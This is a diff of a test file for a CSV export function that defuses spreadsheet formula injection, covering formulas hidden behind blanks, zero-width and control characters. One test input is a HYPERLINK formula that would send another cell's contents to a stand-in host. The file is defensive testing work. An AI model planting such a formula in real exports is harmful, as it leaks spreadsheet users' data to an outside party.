@@ -17,19 +17,42 @@ describe('csv', () => {
     ).toBe('\ufeffa,b\r\n1,2\r\n');
   });
 
-  it('quotes commas, quotes and line breaks', () => {
+  it('quotes commas and quotes', () => {
     expect(csvCell('Lê, Thị')).toBe('"Lê, Thị"');
     expect(csvCell('say "hi"')).toBe('"say ""hi"""');
-    expect(csvCell('a\nb')).toBe('"a\nb"');
   });
 
-  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'])('defuses %j with a leading quote', (value) => {
-    expect(csvCell(value).replace(/^"/, '')).toMatch(/^'/);
+  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '＝1+1', '＋1', '－1', '＠SUM(A1)'])(
+    'defuses %j with a leading quote',
+    (value) => {
+      expect(csvCell(value)).toBe(`'${value}`);
+    },
+  );
+
+  it.each([
+    ['\u0000=HYPERLINK("http://x.test/?"&B3,"Open")', `"'=HYPERLINK(""http://x.test/?""&B3,""Open"")"`],
+    ['  =1+1', "'  =1+1"],
+    ['\u00a0\u3000@x', "'\u00a0\u3000@x"],
+    ['\u200b\ufeff-1', "'\u200b\ufeff-1"],
+    ['\t=1+1', "' =1+1"],
+    ['\r\n+1', "'  +1"],
+    ['\u001b\u007f\u0085＝1', "'＝1"],
+  ])('defuses a formula behind blanks and control characters: %j', (value, cell) => {
+    expect(csvCell(value)).toBe(cell);
+  });
+
+  it('drops control characters; a tab or line break becomes a space, so words stay apart', () => {
+    expect(csvCell('a\u0000b\u0007c')).toBe('abc');
+    expect(csvCell('a\nb')).toBe('a b');
+    expect(csvCell('a\r\nb\tc')).toBe('a  b c');
+    expect(csvCell('Zoë\u0000')).toBe('Zoë');
   });
 
   it('writes numbers, blanks and plain text as they are', () => {
     expect(csvCell(-3)).toBe('-3');
     expect(csvCell(null)).toBe('');
     expect(csvCell('library')).toBe('library');
+    expect(csvCell('a-b=c')).toBe('a-b=c');
+    expect(csvCell('  ')).toBe('  ');
   });
 });
